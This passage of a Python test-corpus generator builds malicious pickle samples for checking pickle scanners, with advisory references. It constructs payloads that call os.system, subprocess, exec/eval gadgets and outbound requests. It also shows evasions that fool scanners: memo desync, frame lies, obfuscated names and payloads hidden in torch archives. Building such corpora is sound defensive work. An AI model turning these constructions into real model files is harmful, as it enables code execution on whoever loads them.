    "unbound ShapeEnv.evaluate_guards_expression(self, code, args) evals code", PS + "GHSA-f4x7-rfwp-v3xw")
add("ghsa-h3qp-7fh3-f8h4_torch_datapipes_decoder_basichandlers.pkl",
    p4(call(sg("torch.utils.data.datapipes.utils.decoder", "basichandlers"), u("pickle"), by(inner_payload()))),
    "malicious", ["torch.utils.data.datapipes.utils.decoder.basichandlers"],
    "decoder.basichandlers('pickle', data) unpickles embedded bytes (nested pickle)", PS + "GHSA-h3qp-7fh3-f8h4")
add("ghsa-vr7h-p6mm-wpmh_torch_jit_execwrapper.pkl",
    p4(call(sg("torch.jit.unsupported_tensor_ops", "execWrapper"), u(SRC), EMPTY_DICT, EMPTY_DICT)),
    "malicious", ["torch.jit.unsupported_tensor_ops.execWrapper"], "execWrapper(code, globals, locals) is exec",
    PS + "GHSA-vr7h-p6mm-wpmh")
add("ghsa-vv6j-3g6g-2pvj_torch_configmodule_load_config.pkl",
    p4(call(sg("torch.utils._config_module", "ConfigModule.load_config"), EMPTY_DICT, by(inner_payload()))),
    "malicious", ["torch.utils._config_module.ConfigModule.load_config"],
    "unbound ConfigModule.load_config(self, blob) unpickles blob (nested pickle)", PS + "GHSA-vv6j-3g6g-2pvj")
add("ghsa-f54q-57x4-jg88_lib2to3_grammar_loads.pkl",
    p4(call(sg("lib2to3.pgen2.grammar", "Grammar.loads"), EMPTY_DICT, by(inner_payload()))),
    "malicious", ["lib2to3.pgen2.grammar.Grammar.loads"], "unbound Grammar.loads(self, blob) unpickles blob",
    PS + "GHSA-f54q-57x4-jg88")
add("ghsa-p9w7-82w4-7q8m_lib2to3_pgen_make_label.pkl",
    p4(call(sg("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), NONE, EMPTY_DICT, u('""+' + SRC))),
    "malicious", ["lib2to3.pgen2.pgen.ParserGenerator.make_label"], "unbound ParserGenerator.make_label evals a quoted label",
    PS + "GHSA-p9w7-82w4-7q8m")
for ghsa, mod, qual, extra, what in (
        ("3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText", (), "SetText evals its value"),
        ("6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity", (), "get_entity evals a name"),
        ("7cq8-mj8x-j263", "idlelib.autocomplete", "AutoComplete.fetch_completions", (i(1),), "fetch_completions evals a name"),
        ("8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip", (), "fetch_tip evals an expression"),
        ("m869-42cg-3xwr", "idlelib.run", "Executive.runcode", (), "runcode execs source"),
        ("j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand", (), "runcommand execs source"),
        ("3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode", (), "runcode execs source")):
    add("ghsa-%s_%s_%s.pkl" % (ghsa, mod.replace(".", "_"), qual.split(".")[-1].lower()),
        p4(call(sg(mod, qual), EMPTY_DICT, u(SRC), *extra)),
        "malicious", ["%s.%s" % (mod, qual)],
        "unbound %s.%s(self, ...): %s" % (mod, qual, what), PS + "GHSA-" + ghsa)
add("ghsa-9xph-j2h6-g47v_idlelib_calltip_get_entity.pkl",
    p4(call(sg("idlelib.calltip", "get_entity"), u(SRC))),
    "malicious", ["idlelib.calltip.get_entity"], "idlelib.calltip.get_entity(expr) evals expr", PS + "GHSA-9xph-j2h6-g47v")
add("ghsa-9726-w42j-3qjr_io_fileio.pkl",
    p4(call(sg("_io", "FileIO"), u("/etc/hostname"), u("r"))),
    "malicious", ["io.FileIO"], "_io.FileIO (how io.FileIO pickles) opens a file, sidestepping a builtins.open entry",
    PS + "GHSA-9726-w42j-3qjr")
add("ghsa-9726-w42j-3qjr_urllib_request_urlopen.pkl",
    p4(call(sg("urllib.request", "urlopen"), u(URL))),
    "malicious", ["urllib.request.urlopen"], "urllib.request.urlopen fetches a URL (SSRF / exfiltration)",
    PS + "GHSA-9726-w42j-3qjr")
add("ghsa-m7j5-r2p5-c39r_logging_filehandler.pkl",
    p4(call(sg("logging", "FileHandler"), u("/tmp/brine-test.log"))),
    "malicious", ["logging.FileHandler"], "logging.FileHandler(path) creates a file on the loading host",
    PS + "GHSA-m7j5-r2p5-c39r")
add("ghsa-9m3x-qqw2-h32h_types_codetype.pkl",
    p4(call(sg("types", "CodeType"), i(0), i(0), i(0), i(0), i(0), i(0), by(b"brine-test"), EMPTY_TUPLE,
            EMPTY_TUPLE, EMPTY_TUPLE, u("<brine>"), u("brine"))),
    "malicious", ["types.CodeType"], "types.CodeType builds a code object from raw bytecode (arguments are placeholders)",
    PS + "GHSA-9m3x-qqw2-h32h")
add("ghsa-9m3x-qqw2-h32h_cloudpickle_make_function.pkl",
    p4(call(sg("cloudpickle.cloudpickle", "_make_function"),
            call(call(sg("cloudpickle.cloudpickle", "_builtin_type"), u("CodeType")), i(0), i(0), i(0), i(0),
                 by(b"brine-test"), u("<brine>")),
            EMPTY_DICT, u("brine"), NONE, NONE)),
    "malicious", ["cloudpickle.cloudpickle._make_function", "cloudpickle.cloudpickle._builtin_type"],
    "cloudpickle._builtin_type('CodeType') + _make_function rebuild a function from bytecode (placeholder arguments)",
    PS + "GHSA-9m3x-qqw2-h32h")
add("ghsa-h4rm-mm56-xf63_builtins_import_getattr_p0_memo.pkl",
    glob("builtins", "__import__") + MARK + s0("os") + TUPLE + REDUCE + put(0) + POP
    + glob("builtins", "getattr") + MARK + get(0) + s0("system") + TUPLE + REDUCE + put(1) + POP
    + get(1) + MARK + s0(CMD) + TUPLE + REDUCE + STOP,
    "malicious", ["builtins.__import__", "builtins.getattr"],
    "protocol 0: __import__('os') and getattr(..., 'system') joined through PUT/GET memo slots",
    FK + "GHSA-h4rm-mm56-xf63")
add("ghsa-mxhj-88fx-4pcv_obj_pop_smtplib.pkl",
    proto(4) + MARK + sg("smtplib", "SMTP") + u("brine-test.example.invalid") + OBJ + POP + NONE + STOP,
    "malicious", ["smtplib.SMTP"],
    "OBJ call whose result is discarded by POP (the call vanished from fickling's AST): network connection",
    FK + "GHSA-mxhj-88fx-4pcv")
add("ghsa-5j3x-jp52-966f_pathlib_dotted_os_system.pkl",
    p4(call(sg("pathlib", "os.system"), u(CMD))),
    "malicious", ["os.system"],
    "dotted STACK_GLOBAL name through an innocuous module: pathlib + 'os.system' resolves to os.system",
    FK + "GHSA-5j3x-jp52-966f")
add("ghsa-6ggj-6f2q-f7mx_xxsubinterpreters_run_string.pkl",
    p4(call(sg("_xxsubinterpreters", "create")) + MEMOIZE + POP
       + call(sg("_xxsubinterpreters", "run_string"), binget(0), u(SRC))),
    "malicious", ["_xxsubinterpreters.create", "_xxsubinterpreters.run_string"],
    "sub-interpreter create + run_string executes source (_interpreters on 3.13+)", FK + "GHSA-6ggj-6f2q-f7mx")
add("ghsa-m6fh-58r7-x697_posixsubprocess_fork_exec.pkl",
    p4(call(sg("_posixsubprocess", "fork_exec"), lst(by(b"/bin/sh"), by(b"-c"), by(CMD.encode())),
            lst(by(b"/bin/sh")), NEWTRUE, EMPTY_TUPLE, NONE, NONE)),
    "malicious", ["_posixsubprocess.fork_exec"], "_posixsubprocess.fork_exec spawns a process (argument list truncated)",
    FK + "GHSA-m6fh-58r7-x697")
add("ghsa-m6fh-58r7-x697_atexit_register.pkl",
    p4(call(sg("atexit", "register"), sg("builtins", "print"), u("brine-test"))),
    "malicious", ["atexit.register"], "atexit.register defers a call to interpreter exit", FK + "GHSA-m6fh-58r7-x697")
add("ghsa-m6fh-58r7-x697_site_addsitedir.pkl",
    p4(call(sg("site", "addsitedir"), u("/tmp/brine-test-site"))),
    "malicious", ["site.addsitedir"], "site.addsitedir processes .pth files, whose import lines run code",
    FK + "GHSA-m6fh-58r7-x697")
add("ghsa-r48f-3986-4f9c_linecache_getlines.pkl",
    p4(call(sg("linecache", "getlines"), u("/etc/hostname"))),
    "malicious", ["linecache.getlines"], "linecache.getlines reads an arbitrary file", FK + "GHSA-r48f-3986-4f9c")
add("ghsa-r48f-3986-4f9c_gc_get_objects.pkl",
    p4(call(sg("gc", "get_objects"))),
    "malicious", ["gc.get_objects"], "gc.get_objects hands back every live object, modules included",
    FK + "GHSA-r48f-3986-4f9c")
add("ghsa-5cxw-w2xg-2m8h_platform_syscmd_file.pkl",
    p4(call(sg("platform", "_syscmd_file"), u("/bin/sh"))),
    "malicious", ["platform._syscmd_file"], "platform helper that runs an external command (gadget choice is ours)",
    FK + "GHSA-5cxw-w2xg-2m8h")
add("ghsa-wfq2-52f7-7qvj_runpy_run_path.pkl",
    p4(call(sg("runpy", "run_path"), u("/tmp/brine-test.py"))),
    "malicious", ["runpy.run_path"], "runpy.run_path executes a Python file", FK + "GHSA-wfq2-52f7-7qvj")
add("ghsa-5hvc-6wx8-mvv4_pydoc_locate_os_system.pkl",
    p4(call(call(sg("pydoc", "locate"), u("os.system")), u("id"))),
    "malicious", ["pydoc.locate"], "pydoc.locate('os.system') resolves a callable from a data string",
    FK + "GHSA-5hvc-6wx8-mvv4")
add("ghsa-mhc9-48gj-9gp3_reduce_build_setstate_hijack.pkl",
    p4(call(sg("io", "BytesIO"), by(b"")) + tup(NONE, dct((u("__setstate__"), sg("os", "system")))) + BUILD
       + u(CMD) + BUILD),
    "malicious", ["os.system"],
    "REDUCE of a harmless class, BUILD plants __setstate__=os.system in the instance dict, a second BUILD calls it",
    FK + "GHSA-mhc9-48gj-9gp3")
add("ghsa-hgrh-qx5j-jfwx_ssl_get_server_certificate.pkl",
    p4(call(sg("ssl", "get_server_certificate"), tup(u("brine-test.example.invalid"), i(443)))),
    "malicious", ["ssl.get_server_certificate"], "ssl.get_server_certificate: outbound connection / DNS exfiltration",
    PS + "GHSA-hgrh-qx5j-jfwx")
add("ghsa-hgrh-qx5j-jfwx_requests_api_get.pkl",
    p4(call(sg("requests.api", "get"), u(URL))),
    "malicious", ["requests.api.get"], "requests.api.get fetches a URL", PS + "GHSA-hgrh-qx5j-jfwx")
add("tech_py2_httplib_https_connection_p0.pkl",
    glob("httplib", "HTTPSConnection") + MARK + s0("brine-test.example.invalid") + TUPLE + REDUCE + STOP,
    "malicious", ["http.client.HTTPSConnection"],
    "Python 2 module httplib (pickle maps it to http.client when protocol < 3) (picklescan test malicious3)")
add("tech_mailcap_findmatch.pkl",
    p4(call(sg("mailcap", "findmatch"),
            dct((u("text/plain"), lst(dct((u("view"), u("cat %s")), (u("test"), u(CMD)))))), u("text/plain"))),
    "malicious", ["mailcap.findmatch"], "mailcap.findmatch runs the entry's test command through os.system",
    MS + "pull/346")
add("tech_mlflow_run_entry_point.pkl",
    p4(call(sg("mlflow.projects.backend.local", "_run_entry_point"), u(CMD), u("."), u(""), u(""))),
    "malicious", ["mlflow.projects.backend.local._run_entry_point"], "MLflow entry-point runner executes a shell command",
    MS + "issues/338")
add("tech_pandas_read_csv_url.pkl",
    p4(call(sg("pandas", "read_csv"), u(URL + "?leak=brine-test"))),
    "malicious", ["pandas.read_csv"], "pandas.read_csv of a URL: outbound request carrying data in the query string",
    MS + "issues/338")
add("tech_joblib_load.pkl", p4(call(sg("joblib", "load"), u("/tmp/brine-test.joblib"))),
    "malicious", ["joblib.load"], "joblib.load of a second file (loader trampoline)")
add("tech_copyreg_add_extension_then_ext1.pkl",
    p2(call(glob("copyreg", "add_extension"), xu("os"), xu("system"), i(0xF1)) + POP
       + EXT1 + bytes([0xF1]) + xu(CMD) + TUPLE1 + REDUCE),
    "malicious", ["copyreg.add_extension"],
    "copyreg.add_extension registers code 0xF1 -> os.system at load time, then EXT1 0xF1 fetches it (no os GLOBAL)")

# ---- opcode variants ---------------------------------------------------------------------
add("tech_inst_os_system.pkl",
    MARK + s0(CMD) + inst("os", "system") + STOP,
    "malicious", ["os.system"], "protocol 0 INST opcode: class lookup and call in one opcode")
add("tech_obj_os_system.pkl",
    MARK + glob("os", "system") + sbs(CMD) + OBJ + STOP,
    "malicious", ["os.system"], "protocol 1 OBJ opcode: MARK, callable, args, OBJ calls it")
add("tech_newobj_subprocess_popen.pkl",
    p2(glob("subprocess", "Popen") + tup(lst(xu("echo"), xu("brine-test"))) + NEWOBJ),
    "malicious", ["subprocess.Popen"], "NEWOBJ instantiates a denylisted class (cls.__new__(cls, *args))")
add("tech_newobj_ex_subprocess_popen.pkl",
    p4(sg("subprocess", "Popen") + tup(u(CMD)) + dct((u("shell"), NEWTRUE)) + NEWOBJ_EX),
    "malicious", ["subprocess.Popen"], "NEWOBJ_EX with keyword arguments on a denylisted class")
add("tech_build_state_on_denylisted_class.pkl",
    p4(sg("webbrowser", "GenericBrowser") + EMPTY_TUPLE + NEWOBJ
       + dct((u("name"), u("sh")), (u("args"), lst(u("-c"), u(CMD)))) + BUILD),
    "malicious", ["webbrowser.GenericBrowser"],
    "object of a denylisted class made by NEWOBJ (no __init__) and armed by BUILD state: its command line")
add("tech_build_monkeypatch_module_os_system.pkl",
    p2(glob("torch", "_utils") + dct((xu("_rebuild_tensor_v2"), glob("os", "system"))) + BUILD + POP
       + call(glob("torch._utils", "_rebuild_tensor_v2"), xu(CMD))),
    "malicious", ["os.system"],
    "BUILD on the module torch._utils replaces _rebuild_tensor_v2 with os.system, then the 'tensor rebuild' runs a command")
add("tech_build_monkeypatch_module_unlisted.pkl",
    p2(glob("torch", "_utils") + dct((xu("_rebuild_tensor_v2"), glob("evil_pkg.backdoor", "run"))) + BUILD + POP
       + od((xu("weight"), tensor()))),
    "malicious", [],
    "BUILD on a module (torch._utils) swaps an allowlisted function for an unlisted one before a normal state dict")
add("tech_build_monkeypatch_function_attrs.pkl",
    p2(glob("numpy", "prod") + tup(NONE, dct((xu("a"), xu("os")), (xu("b"), xu("system")))) + BUILD + POP
       + proto(4) + sg("numpy", "prod.a") + binput(0) + POP + sg("numpy", "prod.b") + binput(1) + POP
       + binget(0) + binget(1) + STACK_GLOBAL + u(CMD) + TUPLE1 + REDUCE),
    "malicious", [],
    "BUILD slot state writes attributes onto the global numpy.prod; later reads of them feed STACK_GLOBAL (modelscan issue #85)",
    MS + "issues/85")

# ---- STACK_GLOBAL operand provenance ------------------------------------------------------
add("tech_stack_global_from_memo_binput.pkl",
    p4(u("os") + binput(2) + POP + u("system") + binput(3) + POP + u("torch") + binput(0) + POP
       + u("LongStorage") + binput(1) + POP + binget(2) + binget(3) + STACK_GLOBAL + u(CMD) + TUPLE1 + REDUCE),
    "malicious", ["os.system"],
    "STACK_GLOBAL operands fetched from memo by BINGET, with decoy torch.LongStorage strings stored alongside (picklescan issue #22)")
add("tech_stack_global_from_memo_memoize_get.pkl",
    p4(u("os") + MEMOIZE + POP + u("system") + MEMOIZE + POP + get(0) + get(1) + STACK_GLOBAL + u(CMD)
       + TUPLE1 + REDUCE),
    "malicious", ["os.system"], "STACK_GLOBAL operands stored by MEMOIZE and fetched by text GET")
add("tech_stack_global_from_memo_long_binget.pkl",
    p4(u("os") + long_binput(70000) + POP + u("system") + long_binput(70001) + POP + long_binget(70000)
       + long_binget(70001) + STACK_GLOBAL + u(CMD) + TUPLE1 + REDUCE),
    "malicious", ["os.system"], "STACK_GLOBAL operands via LONG_BINPUT/LONG_BINGET with sparse memo keys")
add("tech_stack_global_memo_after_pop.pkl",
    p4(u("os") + u("decoy") + POP + MEMOIZE + POP + u("system") + u("decoy") + POP + MEMOIZE + POP
       + binget(0) + binget(1) + STACK_GLOBAL + u(CMD) + TUPLE1 + REDUCE),
    "malicious", ["os.system"],
    "MEMOIZE right after POP stores the real stack top, not the previous opcode's argument (memo desync)",
    "https://huggingface.co/celvexgroup/modelscan-memo-poison-poc")
add("tech_stack_global_memo_after_binget.pkl",
    p4(u("os") + MEMOIZE + POP + binget(0) + MEMOIZE + POP + u("system") + MEMOIZE + POP
       + binget(1) + binget(2) + STACK_GLOBAL + u(CMD) + TUPLE1 + REDUCE),
    "malicious", ["os.system"],
    "MEMOIZE right after BINGET stores the fetched string, not the BINGET index (memo desync)",
    "https://huggingface.co/rowandwhelan/picklescan-memo-value-desync-poc")
add("tech_stack_global_memo_overwrite.pkl",
    p4(u("torch") + binput(0) + POP + u("FloatStorage") + binput(1) + POP + u("os") + binput(0) + POP
       + u("system") + binput(1) + POP + binget(0) + binget(1) + STACK_GLOBAL + u(CMD) + TUPLE1 + REDUCE),
    "malicious", ["os.system"],
    "memo slots rewritten (torch/FloatStorage then os/system) before BINGET: only the last write counts")
add("tech_stack_global_missing_memo_after_payload.pkl",
    proto(4) + call(glob("os", "system"), u(CMD)) + POP + u("os") + MEMOIZE + binget(3) + binget(0)
    + STACK_GLOBAL + i(0x42) + STOP,
    "malicious", ["os.system"],
    "payload first, then STACK_GLOBAL over a missing memo key so a scanner crashes (load fails only after os.system ran)")
add("tech_stack_global_int_memo_after_payload.pkl",
    proto(4) + call(glob("os", "system"), u(CMD)) + POP + b"J" + struct.pack("<i", 42) + MEMOIZE
    + u("os") + MEMOIZE + binget(0) + binget(1) + STACK_GLOBAL + i(0x42) + STOP,
    "malicious", ["os.system"],
    "payload first, then STACK_GLOBAL on an int memo value (type confusion that crashed scanners)")
add("tech_stack_global_from_dup.pkl",
    p4(u("timeit") + DUP + STACK_GLOBAL + u(SRC) + TUPLE1 + REDUCE),
    "malicious", ["timeit.timeit"], "one string duplicated by DUP serves as both module and name: timeit.timeit")
add("tech_stack_global_name_from_call_rot13.pkl",
    p4(call(sg("_codecs", "encode"), u("bf"), u("rot13")) + call(sg("_codecs", "encode"), u("flfgrz"), u("rot13"))
       + STACK_GLOBAL + u(CMD) + TUPLE1 + REDUCE),
    "malicious", [],
    "STACK_GLOBAL operands are results of calls (_codecs.encode rot13 of 'bf'/'flfgrz'): unresolvable statically")
add("tech_stack_global_name_from_str_join.pkl",
    p4(call(sg("builtins", "str.join"), u(""), lst(u("o"), u("s")))
       + call(sg("builtins", "str.join"), u(""), lst(u("sys"), u("tem")))
       + STACK_GLOBAL + u(CMD) + TUPLE1 + REDUCE),
    "malicious", [],
    "STACK_GLOBAL operands assembled by str.join calls (modelscan issue #331 builds them with getattr(str, 'join'))",
    MS + "issues/331")
add("ghsa-9gvj-pp9x-gcfr_stack_global_string_opcodes_at_offset0.pkl",
    s0("os") + s0("system") + STACK_GLOBAL + s0(CMD) + TUPLE1 + REDUCE + STOP,
    "malicious", ["os.system"],
    "STACK_GLOBAL fed by protocol 0 STRING opcodes, module string at stream offset 0 (no PROTO)",
    PS + "GHSA-9gvj-pp9x-gcfr")
add("tech_stack_global_binunicode8.pkl",
    p4(u8("os") + u8("system") + STACK_GLOBAL + u8(CMD) + TUPLE1 + REDUCE),
    "malicious", ["os.system"], "STACK_GLOBAL operands pushed with BINUNICODE8, a string opcode scanners forgot")

# ---- dotted and dunder qualnames -----------------------------------------------------------
add("tech_dotted_torch_os_system.pkl",
    p4(call(sg("torch", "os.system"), u(CMD))),
    "malicious", ["os.system"], "protocol 4 dotted name: module torch, name 'os.system' (torch imports os)")
add("tech_dotted_numpy_sys_modules.pkl",
    p4(call(sg("builtins", "dict.get"), sg("numpy", "core._internal.sys.modules"), u("os"))),
    "malicious", ["sys.modules"],
    "dotted name through numpy submodules down to sys.modules, then dict.get fetches the os module (modelscan issue #89)",
    MS + "issues/89")
add("tech_dunder_globals_ordereddict.pkl",
    p4(call(sg("builtins", "dict.get"), sg("collections", "OrderedDict.__init__.__globals__"), u("sys"))),
    "malicious", [],
    "__globals__ traversal in a STACK_GLOBAL name (static indicator; the C OrderedDict would not resolve it)")
add("tech_dunder_globals_namedtuple.pkl",
    p4(call(sg("builtins", "dict.get"), sg("collections", "namedtuple.__globals__"), u("_sys"))),
    "malicious", [], "collections.namedtuple.__globals__ is the collections module namespace (holds sys)")
add("tech_dunder_numpy_builtins_dict_get.pkl",
    p4(call(call(sg("builtins", "dict.get"), sg("numpy", "__builtins__"), u("eval")), u(SRC))),
    "malicious", [],
    "numpy.__builtins__ is the builtins dict; dict.get pulls eval out of it by a data string (modelscan issues #89, #330)",
    MS + "issues/330")
add("tech_dunder_object_subclasses.pkl",
    p4(call(sg("builtins", "object.__subclasses__"))),
    "malicious", [], "object.__subclasses__() lists every loaded class: the classic sandbox-escape starting point")

# ---- stream-structure evasions ---------------------------------------------------------------
add("tech_second_pickle_after_stop.pkl",
    p2(dct((xu("weight"), lst(i(1), i(2))))) + p2(os_system_call()),
    "malicious", ["os.system"],
    "a benign first pickle, then a second pickle after STOP carrying os.system", kind="multi")
add("tech_trailing_bytes_after_stop.pkl",
    v0("os") + put(2) + POP + v0("system") + put(3) + POP + v0("torch") + put(0) + POP + v0("LongStorage")
    + put(1) + POP + get(2) + get(3) + STACK_GLOBAL + MARK + v0(CMD) + TUPLE + REDUCE + STOP + b"\n\n\t\t",
    "malicious", ["os.system"],
    "protocol 0 memo-fed STACK_GLOBAL followed by stray bytes after STOP (picklescan malicious-invalid-bytes)",
    kind="trailing")
add("nullifai_broken_pickle_reduce_then_garbage.pkl",
    proto(2) + os_system_call() + POP + b"\xff\xfe brine-test garbage, no STOP",
    "malicious", ["os.system"],
    "nullifAI-style broken pickle (intentionally malformed): REDUCE of os.system, then an invalid opcode and no STOP",
    "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face", kind="malformed")
add("nullifai_truncated_stream_after_reduce.pkl",
    proto(4) + call(sg("os", "system"), u(CMD)) + POP + b"\x8c\x20brine",
    "malicious", ["os.system"],
    "payload then a SHORT_BINUNICODE cut short (intentionally malformed, truncated, no STOP)",
    "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face", kind="malformed")
add("tech_malformed_before_any_global.pkl",
    proto(2) + EMPTY_DICT + b"\xff" + os_system_call() + STOP,
    "error", [],
    "invalid opcode before any global (intentionally malformed): a loader stops here, so the later os.system never runs",
    kind="malformed")

# ---- extension registry ----------------------------------------------------------------------
add("tech_ext1_reduce.pkl", p2(EXT1 + bytes([0xF0]) + xu(CMD) + TUPLE1 + REDUCE),
    "malicious", [], "EXT1 loads a callable from the copyreg extension registry (unknown to a static scanner)")
add("tech_ext2_reduce.pkl", p2(EXT2 + struct.pack("<H", 0xBEEF) + xu(CMD) + TUPLE1 + REDUCE),
    "malicious", [], "EXT2 loads a callable from the copyreg extension registry")
add("tech_ext4_reduce.pkl", p2(EXT4 + struct.pack("<i", 0x00C0FFEE) + xu(CMD) + TUPLE1 + REDUCE),
    "malicious", [], "EXT4 loads a callable from the copyreg extension registry")

# ---- frames and protocol switches ------------------------------------------------------------
_g = glob("os", "system")
_rest = u(CMD) + TUPLE1 + REDUCE + STOP
add("tech_frame_ends_mid_opcode.pkl",
    proto(4) + FRAME + struct.pack("<Q", len(_g) + 3) + _g + _rest,
    "malicious", ["os.system"],
    "FRAME length ends 3 bytes into the SHORT_BINUNICODE after GLOBAL os system (frame lie)")
add("tech_frame_nested_before_end.pkl",
    proto(4) + FRAME + struct.pack("<Q", 2 + 9 + 2) + NONE + POP + FRAME + struct.pack("<Q", 2) + EMPTY_DICT + STOP,
    "malicious", [],
    "a second FRAME opens before the current frame's declared end (frame lie, benign content)")
_hidden = glob("os", "system") + v0(CMD) + TUPLE1 + REDUCE + MARK
_hidden = _hidden.ljust(96, NONE)
add("cpython-154848_frame_argument_hides_opcodes.pkl",
    proto(5) + FRAME + struct.pack("<Q", 2) + b"B" + struct.pack("<I", 2 + len(_hidden)) + b"\x00\x00" + _hidden
    + POP_MARK + STOP,
    "malicious", [],
    "FRAME of 2 bytes, then BINBYTES whose declared length runs past it and swallows GLOBAL/REDUCE opcodes "
    "(frame lie; a loader that honours frame ends runs them, a linear parser sees bytes)",
    "https://github.com/python/cpython/issues/154848")
add("tech_proto_midstream_enables_dotted.pkl",
    proto(2) + EMPTY_DICT + POP + proto(4) + call(sg("torch", "os.system"), u(CMD)) + STOP,
    "malicious", ["os.system"],
    "protocol 2 stream switches to PROTO 4 mid-stream, which turns on dotted-name resolution for torch + 'os.system'")
add("tech_proto_midstream_downgrade_py2_names.pkl",
    proto(4) + NONE + POP + proto(2) + call(glob("commands", "getoutput"), xu(CMD)) + STOP,
    "malicious", ["subprocess.getoutput"],
    "protocol 4 stream switches to PROTO 2 mid-stream, which turns on Python 2 name mapping (commands -> subprocess)")

# ---- payloads inside benign-looking torch / numpy structures ---------------------------------
add("tech_torch_backward_hooks_payload.pkl",
    p2(od((xu("weight"), tensor(hooks=od((i(0), os_system_call())))))),
    "malicious", ["os.system"],
    "state dict tensor whose backward_hooks OrderedDict holds the result of an os.system call")
add("tech_torch_rebuild_from_type_v2_os_system.pkl",
    p2(od((xu("weight"), tensor()),
          (xu("bias"), call(glob("torch._tensor", "_rebuild_from_type_v2"), glob("os", "system"),
                            glob("torch", "Tensor"), tup(xu(CMD)), EMPTY_DICT)))),
    "malicious", ["os.system"],
    "torch._tensor._rebuild_from_type_v2(func=os.system, ...) calls func(*args) inside a state dict")
add("tech_copyreg_reconstructor_denylisted_class.pkl",
    p2(od((xu("weight"), tensor()),
          (xu("optimizer"), call(glob("copyreg", "_reconstructor"), glob("subprocess", "Popen"),
                                 glob("builtins", "object"), NONE)
           + dct((xu("args"), xu(CMD))) + BUILD))),
    "malicious", ["subprocess.Popen"],
    "copyreg._reconstructor(cls=subprocess.Popen, object, None) + BUILD inside a state dict")
_np_obj_array = (call(glob("numpy.core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), tup(i(0)),
                      call(glob("_codecs", "encode"), xu("b"), xu("latin1")))
                 + MARK + i(1) + tup(i(1))
                 + call(glob("numpy", "dtype"), xu("O8"), NEWFALSE, NEWTRUE)
                 + MARK + i(3) + xu("|") + NONE + NONE + NONE + b"J" + struct.pack("<i", -1)
                 + b"J" + struct.pack("<i", -1) + i(63) + TUPLE + BUILD
                 + NEWFALSE + lst(os_system_call()) + TUPLE + BUILD)
add("tech_numpy_object_array_payload.pkl",
    p2(od((xu("weight"), tensor()), (xu("class_names"), _np_obj_array))),
    "malicious", ["os.system"],
    "numpy object array (ndarray _reconstruct + BUILD) whose object list holds an os.system call result")

# A tensor pickled with plain pickle keeps its storage as torch.storage._load_from_bytes(b'...'):
# torch.load runs on those bytes with the full unpickler, so a payload can hide inside them.
add("tech_load_from_bytes_nested_payload.pkl",
    p2(call(glob("torch.storage", "_load_from_bytes"), by(proto(2) + os_system_call() + STOP))),
    "malicious", ["os.system"],
    "payload inside the bytes torch.storage._load_from_bytes hands to torch.load (a file inside the pickle)")

# ---- torch.save-style zip archives -----------------------------------------------------------
_payload_state = p2(od((xu("weight"), tensor()), (xu("brine"), os_system_call())))
_zip_payload = torch_zip([("archive/data.pkl", _payload_state), ("archive/data/0", FLOATS),
                          ("archive/version", b"3\n")])
add("tech_torchzip_payload_in_data_pkl.pt", _zip_payload, "malicious", ["os.system"],
    "torch.save-style stored zip (archive/data.pkl, data/0, version) with os.system inside data.pkl", kind="zip")
add("tech_torchzip_payload_in_data_pkl.bin", _zip_payload, "malicious", ["os.system"],
    "same torch zip as the .pt sample, named .bin like a Hugging Face pytorch_model.bin", kind="zip")
add("tech_torchzip_extra_member_payload.pt",
    torch_zip([("archive/data.pkl", benign_state_dict()), ("archive/data/0", FLOATS),
               ("archive/version", b"3\n"), ("archive/extra.pkl", p2(os_system_call()))]),
    "malicious", ["os.system"],
    "benign data.pkl, payload in an extra member archive/extra.pkl that torch.load does not read", kind="zip")
add("tech_torchzip_other_member_payload.bin",
    torch_zip([("archive/data.pkl", benign_state_dict()), ("archive/data/0", FLOATS),
               ("archive/version", b"3\n"), ("archive/other.pkl", p4(call(sg("subprocess", "run"), u(CMD))))]),
    "malicious", ["subprocess.run"],
    "benign data.pkl, protocol 4 payload in an extra member archive/other.pkl, file named .bin", kind="zip")

# ---- unlisted gadgets: the allowlist has to catch these --------------------------------------
add("tech_unlisted_evil_pkg_backdoor_run.pkl",
    p2(call(glob("evil_pkg.backdoor", "run"), xu("brine-test"))),
    "unapproved", [], "made-up evil_pkg.backdoor.run: on no denylist, so only the allowlist stops it")
add("tech_unlisted_pathlib_write_text.pkl",
    p4(call(sg("pathlib", "Path.write_text"), call(sg("pathlib", "PosixPath"), u("/tmp/brine-test.txt")), u("brine-test"))),
    "unapproved", [], "unbound pathlib.Path.write_text(PosixPath(...), data): arbitrary file write with unlisted stdlib names")
add("tech_unlisted_netrc_credentials.pkl",
    p4(call(sg("netrc", "netrc"))),
    "unapproved", [], "netrc.netrc() reads the ~/.netrc credential file: unlisted, dangerous only in context")
add("tech_unlisted_itertools_starmap_deque.pkl",
    p4(call(sg("collections", "deque"), call(sg("itertools", "starmap"), sg("evil_pkg.backdoor", "run"),
                                            lst(tup(u("brine-test")))))),
    "unapproved", [], "collections.deque drains itertools.starmap, which calls an unlisted function: call indirection")
add("tech_unlisted_sklearn_lookalike.pkl",
    p2(call(glob("sklearn.ensemble._brine_evil", "execute"), xu("brine-test"))),
    "unapproved", [],
    "name under a trusted package prefix (sklearn.ensemble._brine_evil.execute); a prefix allowlist would pass it")
add("ghsa-cffv-grgg-g429_ast_parse_import_only.pkl",
    proto(4) + sg("ast", "parse") + POP + NONE + STOP,
    "unapproved", [], "import-only global outside the allowlist (ast.parse), never called", FK + "GHSA-cffv-grgg-g429")
add("cve-2026-24747_setitem_on_tensor.pkl",
    p2(tensor() + xu("brine") + i(1) + SETITEM),
    "unapproved", [],
    "SETITEM applied to a rebuilt tensor rather than a dict (the weights_only memory-corruption pattern)",
    "https://github.com/advisories/GHSA-63cw-57p8-fm3p")


# --------------------------------------------------------------------------- validation
def _genops_all(data):
    """Disassemble (never execute) every pickle in data; return number of pickles."""
    f = io.BytesIO(data)
    count = 0
    while f.tell() < len(data):
        last = None
        for op, _arg, _pos in pickletools.genops(f):
            last = op.name
        if last != "STOP":
            raise ValueError("no STOP")
        count += 1
    return count


def validate(sample):
